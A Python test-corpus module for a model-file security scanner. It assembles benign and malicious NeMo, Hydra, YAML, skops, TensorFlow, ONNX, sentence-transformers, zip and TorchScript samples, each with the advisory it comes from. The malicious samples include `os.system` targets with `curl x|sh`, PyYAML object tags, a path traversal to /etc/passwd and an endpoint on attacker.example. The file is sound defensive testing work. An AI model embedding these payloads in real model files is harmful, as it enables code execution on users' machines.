"""Samples for the formats and loaders of issue 13's second round, each citing where the technique
was published: NeMo archives and Hydra configs, skops files, TensorFlow graphs, ONNX Python and
network operators, sentence-transformers module lists, pickles hidden in unclaimed zip bytes,
TorchScript code, Keras vocabulary files, GGUF chat templates, and pickle gadgets from scanner
advisories.

Benign samples are made with the real libraries where they are installed (torch, numpy, gguf,
h5py) and otherwise laid out byte for byte as the library writes them (skops' `schema.json`
from skops' own `get_state` functions, protobuf messages from TensorFlow's and ONNX's `.proto`
field numbers, NeMo's `model_config.yaml` from NeMo's ASR configs). Malicious samples are
assembled from bytes: nothing is ever loaded or run.

`format_samples(root)` writes them all; every sample is a `Sample` (`tests.scanners.corpus`).
"""

from __future__ import annotations

import io
import json
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import torch

from scanners.report import Outcome
from tests.scanners import corpus_torchscript as ts
from tests.scanners.corpus import (
    BAD,
    EVIL,
    HELD,
    Sample,
    g,
    pkl,
    reduce_global,
    torch_zip_with,
    u,
    zip_bytes,
)
from tests.scanners.corpus_headers import (
    keras_config,
    keras_layer,
    make_gguf,
    onnx_graph,
    onnx_model,
    onnx_node,
    onnx_tensor,
    pb_field,
)

CLEAN = frozenset({Outcome.CLEAN})
REVIEW = frozenset({Outcome.REVIEW})
MALICIOUS = frozenset({Outcome.MALICIOUS})
Writer = Callable[[Path], None]


# ---- NeMo and Hydra ----------------------------------------------------------------------------
# The shape of NeMo's ASR configs (examples/asr/conf/conformer/conformer_ctc_bpe.yaml).
NEMO_CONFIG = """\
sample_rate: 16000
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 1.23.0
tokenizer:
  dir: null
  type: bpe
  model_path: nemo:tokenizer.model
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  normalize: per_feature
  window_size: 0.025
  features: 80
spec_augment:
  _target_: nemo.collections.asr.modules.SpectrogramAugmentation
  freq_masks: 2
  time_masks: 5
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
  n_layers: 2
  d_model: 64
  subsampling: striding
  self_attention_model: rel_pos
  xscaling: true
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: 64
  num_classes: 128
  vocabulary: [a, b, c]
optim:
  name: adamw
  lr: 0.001
  betas: [0.9, 0.98]
  sched:
    name: CosineAnnealing
    warmup_steps: 1000
train_ds:
  manifest_filepath: null
  batch_size: 16
  shuffle: true
"""
NEMO_EXTRA_CONFIG = """\
loss:
  _target_: torch.nn.CrossEntropyLoss
optim_override:
  _target_: torch.optim.AdamW
  lr: 0.001
callbacks:
  - _target_: pytorch_lightning.callbacks.LearningRateMonitor
defaults: &defaults
  dropout: 0.1
layer_a:
  <<: *defaults
  d_model: 64
"""


def nemo_config(*, top: str = "", encoder_target: str = "", extra: str = "") -> str:
    text = NEMO_CONFIG
    if top:
        text = text.replace(
            "target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE", top
        )
    if encoder_target:
        text = text.replace("nemo.collections.asr.modules.ConformerEncoder", encoder_target)
    return text + extra


def nemo_tar(config: str, *, weights: bytes | None = None, compress: bool = False) -> bytes:
    """A `.nemo` as NeMo's `save_to` writes it: ./model_config.yaml, ./model_weights.ckpt, the
    tokenizer (tar.gz when `compress`)."""
    if weights is None:
        buf = io.BytesIO()
        torch.save({"encoder.weight": torch.zeros(4, 4)}, buf)
        weights = buf.getvalue()
    members = [
        ("./model_config.yaml", config.encode()),
        ("./model_weights.ckpt", weights),
        ("./tokenizer.vocab", b"<unk>\n\xe2\x96\x81a\nb\n"),
    ]
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz" if compress else "w") as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


BILLION_LAUGHS_YAML = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8)
)


def nemo_samples() -> dict[str, tuple[bytes, frozenset[Outcome], str]]:
    """name -> (bytes, expected outcomes, source)."""
    cve = "CVE-2025-23304 (NVIDIA NeMo Hydra _target_ injection)"
    return {
        "asr_model.nemo": (nemo_tar(NEMO_CONFIG + NEMO_EXTRA_CONFIG), CLEAN, "benign"),
        "asr_model_gz.nemo": (nemo_tar(NEMO_CONFIG, compress=True), CLEAN, "benign"),
        "nemo_target_os_system.nemo": (
            nemo_tar(nemo_config(encoder_target="os.system")),
            MALICIOUS,
            cve,
        ),
        "nemo_target_builtins_exec_list.nemo": (
            nemo_tar(nemo_config(extra="hooks:\n  - _target_: builtins.exec\n    _args_: ['1']\n")),
            MALICIOUS,
            cve + "; targets inside lists (promptfoo/modelaudit#609 nested targets)",
        ),
        "nemo_toplevel_target_popen.nemo": (
            nemo_tar(nemo_config(top="target: subprocess.Popen")),
            MALICIOUS,
            cve + "; the top-level `target` restore_from imports",
        ),
        "nemo_target_torch_load.nemo": (
            nemo_tar(nemo_config(encoder_target="torch.load")),
            MALICIOUS,
            "promptfoo/modelaudit#1021 (loader targets such as torch.load)",
        ),
        "nemo_target_hydra_get_method.nemo": (
            nemo_tar(nemo_config(encoder_target="hydra.utils.get_method")),
            MALICIOUS,
            "promptfoo/modelaudit#609 (hydra.utils indirection resolves any target)",
        ),
        "nemo_target_unknown_package.nemo": (
            nemo_tar(nemo_config(encoder_target="evil_pkg.modules.Encoder")),
            HELD,
            cve + " (a callable outside NeMo's namespace)",
        ),
        "nemo_target_restore_from.nemo": (
            nemo_tar(
                nemo_config(
                    encoder_target="nemo.collections.asr.models.EncDecCTCModel.restore_from"
                )
            ),
            HELD,
            cve + " (a NeMo loader reached through a target)",
        ),
        "nemo_trust_remote_code.nemo": (
            nemo_tar(
                nemo_config(
                    extra="train_ds_hf:\n  hf_data_cfg:\n    path: evil/dataset\n"
                    "    trust_remote_code: true\n"
                )
            ),
            HELD,
            "https://github.com/NVIDIA-NeMo/Speech/issues/15598 (hf_data_cfg trust_remote_code)",
        ),
        "nemo_yaml_python_tag.nemo": (
            nemo_tar(nemo_config(extra="x: !!python/object/apply:os.system ['id']\n")),
            MALICIOUS,
            "CVE-2017-18342 / CVE-2020-14343 (PyYAML full_load/unsafe_load object tags)",
        ),
        "nemo_billion_laughs.nemo": (
            nemo_tar(nemo_config(extra=BILLION_LAUGHS_YAML)),
            BAD,
            "YAML billion laughs (CVE-2003-1564 class, aliases of aliases)",
        ),
        "nemo_evil_weights.nemo": (
            nemo_tar(NEMO_CONFIG, weights=torch_zip_with(EVIL)),
            MALICIOUS,
            cve + " (the archive's model_weights.ckpt is a torch pickle)",
        ),
        "nemo_weights_gz_evil.nemo": (
            nemo_tar(NEMO_CONFIG, weights=torch_zip_with(EVIL), compress=True),
            MALICIOUS,
            cve + " (tar.gz .nemo)",
        ),
        "model_config.yaml": (nemo_config().encode(), CLEAN, "benign"),
        "hydra_benign_config.yaml": (
            b"model:\n  _target_: relik.retriever.pytorch_modules.model.GoldenRetriever\n"
            b"  question_encoder: intfloat/e5-small-v2\n",
            CLEAN,
            "benign (a project's own Hydra targets)",
        ),
        "hydra_config_os_system.yaml": (
            b"model:\n  _target_: os.system\n  command: curl x|sh\n",
            MALICIOUS,
            "https://github.com/SapienzaNLP/relik/pull/40 (CVE-2026-22584 class, Hydra configs "
            "from the Hub)",
        ),
        "yaml_python_name_tag.yml": (
            b"loader: !!python/name:subprocess.getoutput\n",
            MALICIOUS,
            "CVE-2017-18342 (PyYAML python/name tag)",
        ),
    }


# ---- skops -------------------------------------------------------------------------------------
def _json_node(value: object, node_id: int) -> dict[str, Any]:
    return {
        "__class__": type(value).__name__,
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
        "__id__": node_id,
    }


def _type_node(module: str, cls: str, node_id: int) -> dict[str, Any]:
    return {"__class__": cls, "__module__": module, "__loader__": "TypeNode", "__id__": node_id}


def _dict_node(
    content: dict[str, Any], node_id: int, key_type: tuple[str, str] = ("builtins", "str")
) -> dict[str, Any]:
    keys = [_type_node(key_type[0], key_type[1], node_id * 100 + i) for i in range(len(content))]
    return {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": content,
        "key_types": {
            "__class__": "list",
            "__module__": "builtins",
            "__loader__": "ListNode",
            "content": keys,
            "__id__": node_id * 100 + 99,
        },
        "__id__": node_id,
    }


def _array_node(file: str, node_id: int) -> dict[str, Any]:
    return {
        "__class__": "ndarray",
        "__module__": "numpy",
        "__loader__": "NdArrayNode",
        "type": "numpy",
        "file": file,
        "__id__": node_id,
    }


def _object_node(module: str, cls: str, attrs: dict[str, Any], node_id: int) -> dict[str, Any]:
    return {
        "__class__": cls,
        "__module__": module,
        "__loader__": "ObjectNode",
        "content": _dict_node(attrs, node_id + 1),
        "__id__": node_id,
    }


def _npy(values: Sequence[float]) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array(values, dtype=np.float64), allow_pickle=False)
    return buf.getvalue()


def skops_file(
    root: dict[str, Any], *, arrays: Sequence[str] = (), extra: Sequence[tuple[str, bytes]] = ()
) -> bytes:
    """A `.skops` zip as skops.io.dump writes it: schema.json (protocol 2) plus `.npy` members."""
    schema = {**root, "protocol": 2, "_skops_version": "0.11.0"}
    members = [("schema.json", json.dumps(schema, indent=2).encode())]
    members += [(name, _npy([0.5, -1.0, 2.0])) for name in arrays]
    return zip_bytes([*members, *extra])


def _logistic_regression(node_id: int = 1) -> dict[str, Any]:
    return _object_node(
        "sklearn.linear_model._logistic",
        "LogisticRegression",
        {
            "penalty": _json_node("l2", node_id + 10),
            "C": _json_node(1.0, node_id + 11),
            "max_iter": _json_node(100, node_id + 12),
            "coef_": _array_node("140001.npy", node_id + 13),
            "intercept_": _array_node("140002.npy", node_id + 14),
            "n_features_in_": _json_node(3, node_id + 15),
        },
        node_id,
    )


def _pipeline() -> dict[str, Any]:
    scaler = _object_node(
        "sklearn.preprocessing._data",
        "StandardScaler",
        {"mean_": _array_node("140003.npy", 31), "with_mean": _json_node(True, 32)},
        30,
    )
    log = _object_node(
        "sklearn.preprocessing._function_transformer",
        "FunctionTransformer",
        {
            "func": {
                "__class__": "log1p",
                "__module__": "numpy",
                "__loader__": "FunctionNode",
                "__id__": 41,
            }
        },
        40,
    )
    rng = {
        "__class__": "RandomState",
        "__module__": "numpy.random.mtrand",
        "__loader__": "RandomStateNode",
        "content": _json_node("MT19937", 51),
        "__id__": 50,
    }
    steps = {
        "__class__": "list",
        "__module__": "builtins",
        "__loader__": "ListNode",
        "content": [
            {
                "__class__": "tuple",
                "__module__": "builtins",
                "__loader__": "TupleNode",
                "content": [_json_node("scale", 61), scaler],
                "__id__": 60,
            },
            {
                "__class__": "tuple",
                "__module__": "builtins",
                "__loader__": "TupleNode",
                "content": [_json_node("log", 63), log],
                "__id__": 62,
            },
            {
                "__class__": "tuple",
                "__module__": "builtins",
                "__loader__": "TupleNode",
                "content": [_json_node("clf", 65), _logistic_regression(70)],
                "__id__": 64,
            },
        ],
        "__id__": 59,
    }
    return _object_node(
        "sklearn.pipeline",
        "Pipeline",
        {"steps": steps, "random_state": rng, "memory": _json_node(None, 90)},
        1,
    )


def _with_attr(node: dict[str, Any], key: str, value: dict[str, Any]) -> dict[str, Any]:
    node["content"]["content"][key] = value
    node["content"]["key_types"]["content"].append(_type_node("builtins", "str", 999))
    return node


def skops_samples() -> dict[str, tuple[bytes, frozenset[Outcome], str]]:
    arrays = ("140001.npy", "140002.npy", "140003.npy")
    lr = "skops docs, 'Secure persistence': untrusted types need trusted=; CVE-2025-54412/54413"
    os_function = {
        "__class__": "system",
        "__module__": "os",
        "__loader__": "FunctionNode",
        "__id__": 500,
    }
    operator_mismatch = {
        "__class__": "call",
        "__module__": "sklearn.utils",
        "__loader__": "OperatorFuncNode",
        "attrs": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [],
            "__id__": 502,
        },
        "__id__": 501,
    }
    method_mismatch = {
        "__class__": "LogisticRegression",
        "__module__": "sklearn.linear_model._logistic",
        "__loader__": "MethodNode",
        "content": {
            "func": "system",
            "obj": {
                "__class__": "module",
                "__module__": "os",
                "__loader__": "ObjectNode",
                "__id__": 511,
            },
        },
        "__id__": 510,
    }
    loss_ctor = {
        "__class__": "exec",
        "__module__": "builtins",
        "__loader__": "LossNode",
        "__reduce__": {"args": _json_node(["import os"], 521)},
        "content": _json_node({}, 522),
        "__id__": 520,
    }
    key_types_attack = _dict_node({"curl x|sh": _json_node(1, 531)}, 530, key_type=("os", "system"))
    unknown_object = _object_node(
        "xgboost.sklearn", "XGBClassifier", {"n_estimators": _json_node(10, 541)}, 540
    )
    dict_class = {**_dict_node({}, 550), "__class__": "getoutput", "__module__": "subprocess"}
    attrgetter_private = {
        "__class__": "attrgetter",
        "__module__": "operator",
        "__loader__": "OperatorFuncNode",
        "attrs": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [_json_node("__globals__", 561)],
            "__id__": 562,
        },
        "__id__": 560,
    }
    return {
        "logistic_regression.skops": (
            skops_file(_logistic_regression(), arrays=arrays),
            CLEAN,
            "benign",
        ),
        "pipeline.skops": (skops_file(_pipeline(), arrays=arrays), CLEAN, "benign"),
        "skops_function_os_system.skops": (
            skops_file(_with_attr(_logistic_regression(), "callback", os_function), arrays=arrays),
            MALICIOUS,
            lr + " (a FunctionNode naming os.system)",
        ),
        "skops_operator_module_mismatch.skops": (
            skops_file(
                _with_attr(_logistic_regression(), "scorer", operator_mismatch), arrays=arrays
            ),
            MALICIOUS,
            "CVE-2025-54412 (skops OperatorFuncNode audit/construct mismatch, skops PR #482)",
        ),
        "skops_method_type_mismatch.skops": (
            skops_file(_with_attr(_logistic_regression(), "hook", method_mismatch), arrays=arrays),
            MALICIOUS,
            "CVE-2025-54413 (skops MethodNode bound to another type, skops PR #482)",
        ),
        "skops_loss_node_constructor.skops": (
            skops_file(_with_attr(_logistic_regression(), "loss", loss_ctor), arrays=arrays),
            MALICIOUS,
            "skops PR #506 'Fix a security issue in LossNode' (constructor from the state)",
        ),
        "skops_key_types_os_system.skops": (
            skops_file(
                _with_attr(_logistic_regression(), "classes_map", key_types_attack), arrays=arrays
            ),
            MALICIOUS,
            "skops DictNode key_types: each key is passed to its TypeNode (a callable)",
        ),
        "skops_dict_node_other_class.skops": (
            skops_file(_with_attr(_logistic_regression(), "cfg", dict_class), arrays=arrays),
            MALICIOUS,
            "skops DictNode._construct calls gettype(__module__, __class__)()",
        ),
        "skops_attrgetter_private.skops": (
            skops_file(
                _with_attr(_logistic_regression(), "getter", attrgetter_private), arrays=arrays
            ),
            MALICIOUS,
            "CVE-2025-54412 follow-up (operator getters reaching dunders)",
        ),
        "skops_unknown_estimator.skops": (
            skops_file(unknown_object),
            HELD,
            "skops get_untrusted_types: types outside skops' defaults",
        ),
        "skops_no_schema.skops": (
            zip_bytes([("model.npy", _npy([1.0]))]),
            BAD,
            "benign-looking .skops without schema.json (skops refuses it; not checkable)",
        ),
        "skops_pickle_member.skops": (
            skops_file(_logistic_regression(), arrays=arrays, extra=[("extra.pkl", EVIL)]),
            MALICIOUS,
            "CVE-2025-54886 (skops Card.get_model falls back to pickle; a pickle in the zip)",
        ),
    }


# ---- TensorFlow graphs -------------------------------------------------------------------------
def tf_attr(key: str, value: bytes) -> bytes:
    return pb_field(5, pb_field(1, key) + pb_field(2, value))


def tf_node(name: str, op: str, inputs: Sequence[str] = (), attrs: Sequence[bytes] = ()) -> bytes:
    """A NodeDef: name (1), op (2), input (3), device (4), attr (5)."""
    body = pb_field(1, name) + pb_field(2, op)
    body += b"".join(pb_field(3, i) for i in inputs)
    return body + b"".join(attrs)


def tf_function(name: str, nodes: Sequence[bytes]) -> bytes:
    """A FunctionDef: signature OpDef (1: name), node_def (3)."""
    return pb_field(1, pb_field(1, name)) + b"".join(pb_field(3, n) for n in nodes)


def tf_graph(nodes: Sequence[bytes], functions: Sequence[bytes] = ()) -> bytes:
    """A GraphDef: node (1), library (2: function 1), versions (4: producer 1)."""
    library = b"".join(pb_field(1, f) for f in functions)
    return (
        b"".join(pb_field(1, n) for n in nodes)
        + (pb_field(2, library) if functions else b"")
        + pb_field(4, pb_field(1, 1645))
    )


def saved_model(graph: bytes) -> bytes:
    """SavedModel: schema version (1), a MetaGraphDef (2: meta_info_def 1 with tags 4 and
    tensorflow_version 5, graph_def 2, saver_def 3, signature_def 5)."""
    meta_info = pb_field(4, "serve") + pb_field(5, "2.16.1")
    saver = pb_field(1, "saver_filename:0") + pb_field(2, "StatefulPartitionedCall_1:0")
    signature = pb_field(1, "serving_default") + pb_field(
        2, pb_field(3, "tensorflow/serving/predict")
    )
    meta = pb_field(1, meta_info) + pb_field(2, graph) + pb_field(3, saver) + pb_field(5, signature)
    return pb_field(1, 1) + pb_field(2, meta)


_DTYPE = pb_field(2, pb_field(6, 1))  # AttrValue.type = DT_FLOAT (value in field 2 of the entry)


def _serving(extra: Sequence[bytes] = ()) -> bytes:
    return tf_function(
        "__inference_serve_101",
        [
            tf_node("MatMul", "MatMul", ["x", "w"]),
            tf_node("BiasAdd", "BiasAdd", ["MatMul", "b"]),
            tf_node("Relu", "Relu", ["BiasAdd"]),
            *extra,
        ],
    )


def _saver_functions() -> list[bytes]:
    return [
        tf_function(
            "__inference__traced_save_245",
            [
                tf_node("StringJoin", "StringJoin", ["file_prefix", "Const"]),
                tf_node(
                    "ShardedFilename", "ShardedFilename", ["StringJoin", "num_shards", "shard"]
                ),
                tf_node("SaveV2", "SaveV2", ["ShardedFilename", "tensor_names", "slices", "w"]),
                tf_node("MergeV2Checkpoints", "MergeV2Checkpoints", ["Pack", "file_prefix"]),
            ],
        ),
        tf_function(
            "__inference__traced_restore_266",
            [tf_node("RestoreV2", "RestoreV2", ["file_prefix", "tensor_names", "slices"])],
        ),
    ]


def _top_nodes(extra: Sequence[bytes] = ()) -> list[bytes]:
    return [
        tf_node("serving_default_x", "Placeholder", attrs=[tf_attr("dtype", pb_field(6, 1))]),
        tf_node("saver_filename", "Placeholder"),
        tf_node("StatefulPartitionedCall", "StatefulPartitionedCall", ["serving_default_x"]),
        tf_node("StatefulPartitionedCall_1", "StatefulPartitionedCall", ["saver_filename"]),
        *extra,
    ]


def _saved(serving_extra: Sequence[bytes] = (), top_extra: Sequence[bytes] = ()) -> bytes:
    functions = [_serving(serving_extra), *_saver_functions()]
    return saved_model(tf_graph(_top_nodes(top_extra), functions))


def _frozen(extra: Sequence[bytes] = ()) -> bytes:
    weights = tf_node(
        "w",
        "Const",
        attrs=[tf_attr("value", pb_field(8, pb_field(1, 1) + pb_field(4, b"\0" * 64)))],
    )
    return tf_graph(
        [
            tf_node("x", "Placeholder"),
            weights,
            tf_node("MatMul", "MatMul", ["x", "w"]),
            tf_node("Softmax", "Softmax", ["MatMul"]),
            *extra,
        ]
    )


def tf_samples() -> dict[str, tuple[bytes, frozenset[Outcome], str]]:
    ops = "protectai/modelscan settings.py (TensorFlow unsafe operators ReadFile, WriteFile)"
    audit = "promptfoo/modelaudit tf_savedmodel_scanner.py (PyFunc, EagerPyFunc, file I/O ops)"
    printv2 = tf_node(
        "PrintV2",
        "PrintV2",
        ["StringFormat"],
        [tf_attr("output_stream", pb_field(2, "file:///root/.bashrc"))],
    )
    return {
        "saved_model.pb": (_saved(), CLEAN, "benign"),
        "frozen_graph.pb": (_frozen(), CLEAN, "benign"),
        "printv2_stderr_graph.pb": (
            _frozen(
                [
                    tf_node(
                        "PrintV2",
                        "PrintV2",
                        ["x"],
                        [tf_attr("output_stream", pb_field(2, "stderr"))],
                    )
                ]
            ),
            CLEAN,
            "benign (tf.print to stderr)",
        ),
        "tf_pyfunc_saved_model.pb": (
            _saved(
                [tf_node("PyFunc", "PyFunc", ["Relu"], [tf_attr("token", pb_field(2, "pyfunc_0"))])]
            ),
            MALICIOUS,
            audit + "; tf.py_function / tf.numpy_function",
        ),
        "tf_eager_pyfunc_frozen.pb": (
            _frozen([tf_node("EagerPyFunc", "EagerPyFunc", ["MatMul"])]),
            MALICIOUS,
            audit,
        ),
        "tf_pyfunc_stateless_top.pb": (
            _saved(
                top_extra=[tf_node("PyFuncStateless", "PyFuncStateless", ["serving_default_x"])]
            ),
            MALICIOUS,
            audit,
        ),
        "tf_writefile_saved_model.pb": (
            _saved([tf_node("WriteFile", "WriteFile", ["path", "contents"])]),
            MALICIOUS,
            ops + "; tf.io.write_file",
        ),
        "tf_printv2_to_file.pb": (
            _frozen([printv2]),
            MALICIOUS,
            audit + "; tf.print(output_stream='file://')",
        ),
        "tf_readfile_saved_model.pb": (
            _saved([tf_node("ReadFile", "ReadFile", ["filename"])]),
            HELD,
            ops + "; tf.io.read_file",
        ),
        "tf_matchingfiles_frozen.pb": (
            _frozen([tf_node("MatchingFiles", "MatchingFiles", ["pattern"])]),
            HELD,
            audit + "; tf.io.matching_files",
        ),
        "tf_savev2_in_serving.pb": (
            _saved([tf_node("SaveV2", "SaveV2", ["prefix", "names", "slices", "w"])]),
            HELD,
            "checkpoint ops outside the saver (tf.raw_ops.SaveV2 writes at a chosen path)",
        ),
        "tf_pyfunc_reordered_fields.pb": (
            saved_model(
                tf_graph(
                    [pb_field(5, pb_field(1, "Tout")) + pb_field(2, "PyFunc") + pb_field(1, "evil")]
                )
            ),
            MALICIOUS,
            audit + " (NodeDef fields out of order)",
        ),
    }


def tf_named_samples() -> dict[str, tuple[bytes, frozenset[Outcome], str]]:
    """Samples whose repo path matters (written in their own folder)."""
    return {
        "tf_broken/saved_model.pb": (
            b"\x08\x01\x12\xff\xff\x03" + b"\x00" * 40,
            BAD,
            "a SavedModel that does not parse",
        ),
    }


# ---- ONNX --------------------------------------------------------------------------------------
def _onnx_string_attr(name: str, value: str) -> bytes:
    """AttributeProto: name (1), s (4), type (20) = STRING (3)."""
    return pb_field(1, name) + pb_field(4, value) + pb_field(20, 3)


def onnx_samples() -> dict[str, tuple[bytes, frozenset[Outcome], str]]:
    pyop = "https://github.com/microsoft/onnxruntime/blob/main/docs/PyOp.md (PyOp imports `module`)"
    ext = "microsoft/onnxruntime-extensions (ai.onnx.contrib / com.microsoft.extensions domains)"
    return {
        "model.onnx": (
            onnx_model(
                onnx_graph(
                    [
                        onnx_node("MatMul"),
                        onnx_node("Relu"),
                        onnx_node("FusedGemm", domain="com.microsoft"),
                    ],
                    [onnx_tensor("w")],
                )
            ),
            CLEAN,
            "benign",
        ),
        "onnx_pyop_os_system.onnx": (
            onnx_model(
                onnx_graph(
                    [
                        onnx_node(
                            "PyOp",
                            domain="pyopmulti_1",
                            attributes=[
                                _onnx_string_attr("module", "os"),
                                _onnx_string_attr("class_name", "system"),
                            ],
                        )
                    ]
                )
            ),
            MALICIOUS,
            pyop,
        ),
        "onnx_pyop_module.onnx": (
            onnx_model(
                onnx_graph(
                    [
                        onnx_node(
                            "PyOp",
                            domain="pyop",
                            attributes=[
                                _onnx_string_attr("module", "mymodule"),
                                _onnx_string_attr("class_name", "Multi_1"),
                            ],
                        )
                    ]
                )
            ),
            HELD,
            pyop,
        ),
        "onnx_contrib_python_domain.onnx": (
            onnx_model(
                onnx_graph([onnx_node("CustomOpOne", domain="ai.onnx.contrib")]),
                opsets=(("", 17), ("ai.onnx.contrib", 1)),
            ),
            HELD,
            ext + " (onnx_op / PyCustomOpDef)",
        ),
        "onnx_azure_invoker.onnx": (
            onnx_model(
                onnx_graph(
                    [
                        onnx_node(
                            "AzureTritonInvoker",
                            domain="com.microsoft.extensions",
                            attributes=[
                                _onnx_string_attr("model_uri", "https://attacker.example/v2/models")
                            ],
                        )
                    ]
                )
            ),
            HELD,
            ext + " (AzureTritonInvoker / OpenAIAudioToText send inputs to model_uri)",
        ),
        "onnx_external_data_traversal.onnx": (
            onnx_model(
                onnx_graph(
                    [onnx_node("Relu")], [onnx_tensor("w", location="../../../../etc/passwd")]
                )
            ),
            MALICIOUS,
            "CVE-2024-27318 / CVE-2022-25882 (onnx external data path traversal)",
        ),
    }


# ---- sentence-transformers ---------------------------------------------------------------------
def _modules(*entries: tuple[str, str]) -> bytes:
    return json.dumps(
        [
            {"idx": i, "name": str(i), "path": path, "type": kind}
            for i, (kind, path) in enumerate(entries)
        ],
        indent=2,
    ).encode()


def st_samples() -> dict[str, tuple[bytes, frozenset[Outcome], str]]:
    loader = "sentence-transformers _load_module_class_from_ref: non-library types load repo code"
    return {
        "st_default/modules.json": (
            _modules(
                ("sentence_transformers.models.Transformer", ""),
                ("sentence_transformers.models.Pooling", "1_Pooling"),
                ("sentence_transformers.models.Normalize", "2_Normalize"),
            ),
            CLEAN,
            "benign (all-MiniLM-L6-v2 layout)",
        ),
        "st_sparse/modules.json": (
            _modules(
                ("sentence_transformers.sparse_encoder.models.MLMTransformer", ""),
                ("sentence_transformers.sparse_encoder.models.SpladePooling", "1_SpladePooling"),
            ),
            CLEAN,
            "benign (SPLADE sparse encoder layout)",
        ),
        "st_custom_module/modules.json": (
            _modules(
                ("sentence_transformers.models.Transformer", ""),
                ("custom_pooling.EvilPooling", "1_Pooling"),
            ),
            HELD,
            loader,
        ),
        "st_os_system/modules.json": (
            _modules(("os.system", "")),
            MALICIOUS,
            loader + " (import_from_string of a system callable)",
        ),
        "st_path_escape/modules.json": (
            _modules(("sentence_transformers.models.Transformer", "../../other-model")),
            MALICIOUS,
            "sentence-transformers module path outside the model folder (unscanned files load)",
        ),
    }


# ---- pickles hidden in zips --------------------------------------------------------------------
def with_comment(data: bytes, comment: bytes) -> bytes:
    buf = io.BytesIO(data)
    with zipfile.ZipFile(buf, "a") as archive:
        archive.comment = comment
    return buf.getvalue()


def zip_hidden_samples() -> dict[str, tuple[bytes, frozenset[Outcome], str]]:
    state = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, state)
    clean_zip = state.getvalue()
    return {
        "zip_comment_text.pt": (
            with_comment(clean_zip, b"saved by trainer v1.2"),
            CLEAN,
            "benign",
        ),
        "zip_comment_pickle.pt": (
            with_comment(clean_zip, EVIL),
            MALICIOUS,
            "zip comment polyglots (issue 13; modelscan/picklescan scan members only)",
        ),
        "zip_trailing_pickle.npz": (
            zip_bytes([("a.npy", _npy([1.0]))]) + EVIL,
            MALICIOUS,
            "data after the end-of-central-directory record (polyglot)",
        ),
        "zip_decoy_local_entry.pt": (
            decoy_local_entry(EVIL) + clean_zip,
            HELD,
            "CVE-2025-1944 class: a local entry the central directory does not list",
        ),
    }


def decoy_local_entry(payload: bytes) -> bytes:
    """A stored local file header + data that no central directory entry points at."""
    name = b"archive/data.pkl"
    import struct
    import zlib

    header = struct.pack(
        "<4s5H3L2H",
        b"PK\x03\x04",
        20,
        0,
        0,
        0,
        0,
        zlib.crc32(payload),
        len(payload),
        len(payload),
        len(name),
        0,
    )
    return header + name + payload


# ---- TorchScript -------------------------------------------------------------------------------
def torchscript_samples() -> dict[str, tuple[bytes, frozenset[Outcome], str]]:
    cve = "CVE-2025-32434 / GHSA-53q9-r3pm-6pq6 (torch.load weights_only=True runs TorchScript)"
    return {
        "torchscript_scripted.pt": (ts.scripted(), CLEAN, "benign"),
        "torchscript_traced.pt": (ts.traced(), CLEAN, "benign"),
        "torchscript_lstm.pt": (ts.lstm(), CLEAN, "benign"),
        "torchscript_quantized.pt": (ts.quantized(), CLEAN, "benign"),
        "torchscript_lite.ptl": (ts.lite(), CLEAN, "benign"),
        "torchscript_from_file.pt": (
            ts.reads_file(),
            MALICIOUS,
            cve + " (torch.from_file reads a file)",
        ),
        "torchscript_save.pt": (
            ts.writes_file(),
            MALICIOUS,
            cve + " (torch.save / aten::save writes a file)",
        ),
        "torchscript_lite_save.ptl": (
            ts.lite_writes_file(),
            MALICIOUS,
            cve + " (mobile bytecode operator table)",
        ),
        "torchscript_import_os.pt": (
            ts.with_code_edit(
                "return torch.linear(input, weight, bias)",
                "import os\n    return torch.linear(input, weight, bias)",
            ),
            MALICIOUS,
            cve + " (hand-edited serialized code)",
        ),
        "torchscript_builtins_eval.pt": (
            ts.with_code_edit(
                "return torch.linear(input, weight, bias)",
                "_x = __builtins__.eval('1')\n    return torch.linear(input, weight, bias)",
            ),
            MALICIOUS,
            cve + " (hand-edited serialized code)",
        ),
        "torchscript_custom_op.pt": (
            ts.with_code_edit(
                "return torch.linear(input, weight, bias)",
                "return ops.evil_ns.linear(input, weight, bias)",
            ),
            HELD,
            "TorchScript custom-op namespaces (torch.ops.load_library native code)",
        ),
        "torchscript_unparseable.pt": (
            ts.with_code_edit(
                "return torch.linear(input, weight, bias)", "return torch.linear(input,, weight"
            ),
            BAD,
            "TorchScript code that does not parse",
        ),
        "torchscript_data_pkl_os.pt": (
            ts.with_data_pkl(EVIL),
            MALICIOUS,
            cve + " (data.pkl imports os.system)",
        ),
        "torchscript_foreign_torch_class.pt": (
            ts.with_data_pkl(pkl(g("__torch__.evil", "Payload") + b")\x81", 2)),
            HELD,
            "a __torch__ class the archive's code does not define",
        ),
    }


# ---- Keras, GGUF templates, pickle gadgets from advisories -------------------------------------
def _keras_zip(config: object) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
        archive.writestr("config.json", json.dumps(config))
    return buf.getvalue()


def _lookup(vocabulary: object) -> dict[str, Any]:
    return keras_layer(
        "StringLookup", {"name": "lookup", "vocabulary": vocabulary, "num_oov_indices": 1}
    )


